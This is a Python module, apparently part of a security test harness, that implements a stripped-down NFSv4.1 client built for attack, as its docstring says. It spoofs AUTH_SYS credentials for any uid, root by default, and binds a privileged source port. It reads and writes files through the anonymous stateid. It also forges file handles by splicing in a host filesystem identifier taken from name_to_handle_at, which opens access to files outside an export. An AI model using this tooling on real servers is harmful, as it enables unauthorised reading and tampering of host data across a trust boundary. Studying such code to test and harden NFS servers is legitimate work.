"""As much of an NFSv4.1 client as an attacker needs: any uid, any file handle (RFC 8881, RFC 5531).

A kernel's client asks only for handles that it was given. This one asks for what it likes, which guest root can do too.
"""

from __future__ import annotations

import errno
import os
import random
import socket
import struct
from typing import Any

_PROGRAM, _VERSION, _COMPOUND = 100003, 4, 1
_ACCESS, _GETFH, _LOOKUP, _PUTFH, _PUTROOTFH, _READ, _READDIR = 3, 10, 15, 22, 24, 25, 26
_WRITE, _EXCHANGE_ID, _CREATE_SESSION, _SEQUENCE, _RECLAIM = 38, 42, 43, 53, 58
_ANONYMOUS = bytes(16)  # the stateid of a client that has opened nothing
STALE, DENIED, PERMISSION = 70, 13, 1  # NFS4ERR_STALE, NFS4ERR_ACCESS, NFS4ERR_PERM


class NfsError(Exception):
    """The server's answer to an operation; ``code`` is its nfsstat4."""

    def __init__(self, operation: int, code: int) -> None:
        super().__init__(f"operation {operation}: nfsstat4 {code}")
        self.code = code


def opaque(data: bytes) -> bytes:
    """Bytes with their length, filled up to four (RFC 4506, 4.10)."""
    return struct.pack("!I", len(data)) + data + bytes(-len(data) % 4)


class Answer:
    """Bytes of an answer, read from front to back."""

    def __init__(self, data: bytes) -> None:
        self._data = data

    def take(self, count: int) -> bytes:
        """So many bytes."""
        found, self._data = self._data[:count], self._data[count + (-count % 4) :]
        assert len(found) == count, "the answer is too short"
        return found

    def number(self) -> int:
        """An unsigned integer of 32 bits."""
        return int(struct.unpack("!I", self.take(4))[0])

    def opaque(self) -> bytes:
        """Bytes that stand with their length."""
        return self.take(self.number())


def _connected(address: str, port: int, timeout_s: float, source_port: int) -> socket.socket:
    if source_port or os.geteuid():
        return socket.create_connection((address, port), timeout_s, ("", source_port))
    for own in random.sample(range(665, 1024), 20):
        try:
            return socket.create_connection((address, port), timeout_s, ("", own))
        except OSError as error:
            if error.errno not in (errno.EADDRINUSE, errno.EADDRNOTAVAIL):
                raise
    raise OSError(errno.EADDRINUSE, "no port of root's is free")


class NfsClient:
    """One session; ``uid`` and ``gid`` are what it claims, which AUTH_SYS lets anybody.

    ``server``: owner and scope, by which a client tells whether two addresses are one server (RFC 8881, 2.10.4).
    ``source_port``: where it calls from, 0 for any, which is one of root's (below 1024) if we are root: as a kernel's
    client calls, and some servers listen to no other.
    """

    def __init__(
        self, address: str, port: int, *, uid: int = 0, gid: int = 0, timeout_s: float = 15.0, source_port: int = 0
    ) -> None:
        self._socket = _connected(address, port, timeout_s, source_port)
        self._who = (uid, gid)
        self._xid = 1
        self._sequence = 0
        self._session = b""
        self._begin()

    def close(self) -> None:
        """Hang up."""
        self._socket.close()

    def _begin(self) -> None:
        name = os.urandom(8)
        asked = name + opaque(b"attacker" + name) + struct.pack("!III", 0, 0, 0)
        found = self._call([(_EXCHANGE_ID, asked)])
        client, number = found.take(8), found.number()
        found.take(8 + 8)  # flags and state protection (none), the minor part of the owner
        self.server = (found.opaque(), found.opaque())
        channel = struct.pack("!IIIIIII", 0, 1 << 20, 1 << 20, 8192, 16, 4, 0)
        made = self._call([(_CREATE_SESSION, client + struct.pack("!II", number, 0) + channel * 2 + bytes(12))])
        self._session = made.take(16)
        self.compound((_RECLAIM, struct.pack("!I", 0)))

    def compound(self, *operations: tuple[int, bytes]) -> Answer:
        """The result of the last operation, all of them in this session. Raises NfsError, OSError."""
        self._sequence += 1
        sequence = self._session + struct.pack("!IIII", self._sequence, 0, 0, 0)
        return self._call([(_SEQUENCE, sequence), *operations])

    def _call(self, operations: list[tuple[int, bytes]]) -> Answer:
        self._xid += 1
        uid, gid = self._who
        cred = struct.pack("!I", 0) + opaque(b"guest") + struct.pack("!III", uid, gid, 0)
        head = struct.pack("!IIIIII", self._xid, 0, 2, _PROGRAM, _VERSION, _COMPOUND)
        head += struct.pack("!I", 1) + opaque(cred) + bytes(8)
        body = opaque(b"") + struct.pack("!II", 1, len(operations))
        text = head + body + b"".join(struct.pack("!I", number) + words for number, words in operations)
        self._socket.sendall(struct.pack("!I", 1 << 31 | len(text)) + text)
        return self._last(Answer(self._record()))

    def _record(self) -> bytes:
        data, last = b"", False
        while not last:
            mark = struct.unpack("!I", self._exactly(4))[0]
            last = bool(mark >> 31)
            data += self._exactly(mark & 0x7FFFFFFF)
        return data

    def _exactly(self, count: int) -> bytes:
        data = b""
        while len(data) < count:
            more = self._socket.recv(count - len(data))
            if not more:
                raise ConnectionResetError("the server hung up")
            data += more
        return data

    def _last(self, answer: Answer) -> Answer:
        head = struct.unpack("!III", answer.take(12))
        answer.number()
        answer.opaque()
        accepted = answer.number()
        if head[2] or accepted:
            raise NfsError(0, accepted or head[2])
        status = answer.number()
        answer.opaque()
        results = answer.number()
        for number in range(results):
            operation, code = answer.number(), answer.number()
            if code:
                raise NfsError(operation, code)
            if number + 1 < results:
                _skip(operation, answer)
        assert not status
        return answer

    def handle(self, *path: str) -> bytes:
        """The file handle at a path from the server's root."""
        steps = [(_LOOKUP, opaque(os.fsencode(name))) for name in path]
        return self.compound((_PUTROOTFH, b""), *steps, (_GETFH, b"")).opaque()

    def read(self, handle: bytes, count: int = 4096) -> bytes:
        """What a file begins with."""
        asked = _ANONYMOUS + struct.pack("!QI", 0, count)
        answer = self.compound((_PUTFH, opaque(handle)), (_READ, asked))
        answer.number()
        return answer.opaque()

    def write(self, handle: bytes, data: bytes) -> None:
        """Write at the beginning of a file."""
        self.compound((_PUTFH, opaque(handle)), (_WRITE, _ANONYMOUS + struct.pack("!QI", 0, 2) + opaque(data)))

    def find(self, handle: bytes, *path: str) -> bytes:
        """The handle of what lies below a folder."""
        steps = [(_LOOKUP, opaque(os.fsencode(name))) for name in path]
        return self.compound((_PUTFH, opaque(handle)), *steps, (_GETFH, b"")).opaque()

    def names(self, handle: bytes) -> list[str]:
        """Some of the names in a folder."""
        asked = struct.pack("!QQIIII", 0, 0, 8192, 8192, 1, 0)
        answer = self.compound((_PUTFH, opaque(handle)), (_READDIR, asked))
        answer.take(8)
        found = []
        while answer.number():
            answer.take(8)
            found.append(os.fsdecode(answer.opaque()))
            for _ in range(answer.number()):
                answer.number()
            answer.opaque()
        return found


def _skip(operation: int, answer: Answer) -> None:
    """Pass over the result of an operation that is not the last."""
    if operation == _SEQUENCE:
        answer.take(36)


def forged(handle: bytes, old: bytes, new: bytes) -> bytes:
    """A server's handle with the file system's own part, as ``name_to_handle_at`` tells it, replaced by another's."""
    assert handle.count(old) == 1 and len(old) == len(new), (handle.hex(), old.hex(), new.hex())
    return handle.replace(old, new)


def host_handle(path: str) -> bytes:
    """The host's file handle of a path (name_to_handle_at(2)): its bytes without type and length."""
    import ctypes

    libc: Any = ctypes.CDLL(None, use_errno=True)
    room = ctypes.create_string_buffer(struct.pack("=II", 128, 0), 8 + 128)
    mount = ctypes.c_int()
    if libc.name_to_handle_at(-100, os.fsencode(path), room, ctypes.byref(mount), 0):
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()), path)
    return room.raw[8 : 8 + struct.unpack_from("=I", room.raw)[0]]
